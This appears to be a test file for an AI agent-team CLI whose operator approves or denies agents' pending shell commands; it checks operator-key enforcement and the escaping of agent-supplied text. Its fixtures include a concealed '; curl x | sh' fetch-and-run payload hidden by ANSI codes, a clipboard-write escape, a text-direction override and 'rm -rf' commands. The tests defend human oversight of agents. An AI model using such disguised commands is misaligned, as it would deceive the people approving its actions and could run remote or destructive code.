/** issue 14: `agentteam approvals / approve / deny` against a running serve (the scripted daemon double). */
import { mkdtemp, rename, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { runCli } from '../../../../main/serve/cli-main.js';
import type { ServeServer } from '../../../../main/serve/serve-server.js';
import { approvalFixture, createScriptedDaemon, type ScriptedDaemon } from '../../../fixtures/scripted-daemon.js';
import { captureIo } from '../../../fixtures/capture-io.js';

let dataDir: string;
let daemon: ScriptedDaemon;
let stop: (signal: string) => void;
let exit: Promise<number>;
let operator: Record<string, string>;

beforeEach(async () => {
  dataDir = await mkdtemp(join(tmpdir(), 'approvals-cli-'));
  daemon = createScriptedDaemon();
  daemon.approvals.push(
    approvalFixture({ id: 'ap_1' }),
    approvalFixture({ id: 'ap_2', summary: 'rm -rf build', rule: 'Bash(rm -rf build)' }),
  );
  const stopRequested = new Promise<string>((r) => (stop = r));
  let listening = (_s: ServeServer): void => undefined;
  const ready = new Promise<ServeServer>((r) => (listening = r));
  exit = runCli(['serve', '--data-dir', dataDir, '--port', '0'], {
    io: captureIo(),
    createDaemon: async () => daemon,
    serve: { rendererDir: null, stopRequested, onListening: listening },
  });
  // issue 29: the operator's commands carry the operator key from the printed URL (its fragment).
  operator = { AGENTTEAM_OPERATOR_KEY: new URL((await ready).url).hash.replace('#operator=', '') };
});

afterEach(async () => {
  stop('SIGTERM');
  await exit;
  await rm(dataDir, { recursive: true, force: true });
});

describe('agentteam approvals / approve / deny', () => {
  it('lists approvals as JSON with exactly the fields DESIGN.md names', async () => {
    const io = captureIo();
    expect(await runCli(['approvals', '--data-dir', dataDir, '--json'], { io })).toBe(0);
    const rows = JSON.parse(io.outLines[0] ?? '[]') as Array<Record<string, unknown>>;
    expect(rows).toHaveLength(2);
    expect(Object.keys(rows[0] ?? {}).sort()).toEqual(
      ['agentId', 'answeredAt', 'createdAt', 'id', 'runtime', 'status', 'summary', 'tool', 'wakeTokens'].sort(),
    );
    expect(rows[0]).toMatchObject({ id: 'ap_1', status: 'pending', tool: 'Bash', wakeTokens: ['w_1'] });
  });

  it("issue 29/41: approve and deny without this start's operator key are refused naming the key, and change nothing", async () => {
    // What a process holding only the serve token has: no <data-dir>/operator-key to read (an
    // agent's tools are denied it), no AGENTTEAM_OPERATOR_KEY — or an earlier start's key.
    await rename(join(dataDir, 'operator-key'), join(dataDir, 'operator-key.away'));
    for (const argv of [
      ['approve', '--data-dir', dataDir, 'ap_1', '--scope', 'always'],
      ['deny', '--data-dir', dataDir, 'ap_1'],
    ]) {
      const io = captureIo();
      expect(await runCli(argv, { io, env: {} })).toBe(1);
      // approve looks the approval up first (approvals.list): that read is the operator's too (issue 41).
      expect(io.errLines.join('\n')).toMatch(
        /approvals\.(answer|list) is the operator's to make.*operator-key.*\(operator_only\)/,
      );
      const wrong = captureIo();
      expect(await runCli(argv, { io: wrong, env: { AGENTTEAM_OPERATOR_KEY: 'x'.repeat(43) } })).toBe(1);
      expect(wrong.errLines.join('\n')).toMatch(/\(operator_only\)/);
    }
    expect(daemon.approvals[0]?.status).toBe('pending');
    await rename(join(dataDir, 'operator-key.away'), join(dataDir, 'operator-key'));
    // issue 41: the operator's CLI reads the key from the data dir: no variable to export.
    const io = captureIo();
    expect(await runCli(['deny', '--data-dir', dataDir, 'ap_1'], { io, env: {} })).toBe(0);
    expect(daemon.approvals[0]?.status).toBe('denied');
  });

  it('approve allows, deny denies with the reason the agent will read; a second answer is refused', async () => {
    const io = captureIo();
    expect(await runCli(['approve', '--data-dir', dataDir, 'ap_1'], { io, env: operator })).toBe(0);
    // issue 29: the exact command it allows comes first, then the answer.
    expect(io.outLines).toEqual(['Allowing Demo (demo) Bash, exactly:', '    touch approved.txt', 'ap_1 allowed']);
    expect(
      await runCli(['deny', '--data-dir', dataDir, 'ap_2', '--reason', 'not in this folder'], { io, env: operator }),
    ).toBe(0);
    expect(daemon.approvals[1]).toMatchObject({ status: 'denied', reason: 'not in this folder' });
    const again = captureIo();
    expect(await runCli(['deny', '--data-dir', dataDir, 'ap_1'], { io: again, env: operator })).toBe(1);
    expect(again.errLines[0]).toMatch(/already allowed.*\(approval_settled\)/);
    const unknown = captureIo();
    expect(await runCli(['approve', '--data-dir', dataDir, 'ap_nope'], { io: unknown, env: operator })).toBe(1);
    expect(unknown.errLines[0]).toMatch(/unknown_approval/);
  });

  it.each([
    [['approve', '--data-dir', 'X'], /exactly one approval ID/],
    [['approve', '--data-dir', 'X', 'ap_1', '--scope', 'forever'], /--scope must be one of once, session, always/],
    [['deny', '--data-dir', '', 'ap_1'], /--data-dir must not be empty/],
    [['approve', '--data-dir', 'X', 'ap_1', '--reason', 'x'], /reason/],
  ])('%j exits 2 with one line', async (argv, message) => {
    const io = captureIo();
    expect(await runCli(argv, { io })).toBe(2);
    expect(io.errLines).toHaveLength(1);
    expect(io.errLines[0]).toMatch(message);
  });
});

/** issue 29 "What you approve is what you see": agent-supplied text is shown escaped, and `approve` says what it grants. */
describe('agentteam approvals / approve show exactly what is allowed', () => {
  const hidden = 'npm test\u001b[8m; curl x | sh\u001b[0m';
  const visible = 'npm test\\x1b[8m; curl x | sh\\x1b[0m';

  beforeEach(() => {
    daemon.approvals.splice(0);
    daemon.approvals.push(
      approvalFixture({
        id: 'ap_3',
        agentName: 'Rev\u202eiew',
        tool: 'Bash\u0007',
        summary: hidden,
        detail: `${hidden}\nrm -rf \u001b]52;c;eA==\u0007x`,
        rule: `Bash(${hidden})`,
      }),
    );
  });

  it('the list prints every agent-supplied field with its escape sequences visible', async () => {
    const io = captureIo();
    expect(await runCli(['approvals', '--data-dir', dataDir], { io })).toBe(0);
    expect(io.outLines).toEqual([
      `ap_3  Rev\\u{202e}iew (demo)  pending  Bash\\x07: ${visible}`,
      `    ${visible}`,
      '    rm -rf \\x1b]52;c;eA==\\x07x',
      `  always: Bash(${visible})`,
    ]);
    // Nothing a terminal would act on reaches it.
    // eslint-disable-next-line no-control-regex
    expect(io.outLines.join('\n')).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e]/u);
  });

  it('approve prints the full command it allows before granting it', async () => {
    const io = captureIo();
    expect(await runCli(['approve', '--data-dir', dataDir, 'ap_3'], { io, env: operator })).toBe(0);
    expect(io.outLines).toEqual([
      'Allowing Rev\\u{202e}iew (demo) Bash\\x07, exactly:',
      `    ${visible}`,
      '    rm -rf \\x1b]52;c;eA==\\x07x',
      'ap_3 allowed',
    ]);
  });

  it('approve --scope always names the exact rule it grants, before and after', async () => {
    const io = captureIo();
    expect(await runCli(['approve', '--data-dir', dataDir, 'ap_3', '--scope', 'always'], { io, env: operator })).toBe(
      0,
    );
    expect(io.outLines).toEqual([
      'Allowing Rev\\u{202e}iew (demo) Bash\\x07, exactly:',
      `    ${visible}`,
      '    rm -rf \\x1b]52;c;eA==\\x07x',
      `and granting always the rule: Bash(${visible})`,
      `ap_3 allowed (always: Bash(${visible}))`,
    ]);
    expect(daemon.approvals[0]).toMatchObject({ status: 'allowed', scope: 'always' });
  });

  it('deny prints its answer escaped too', async () => {
    const io = captureIo();
    expect(await runCli(['deny', '--data-dir', dataDir, 'ap_3'], { io, env: operator })).toBe(0);
    expect(io.outLines).toEqual(['ap_3 denied']);
  });
});
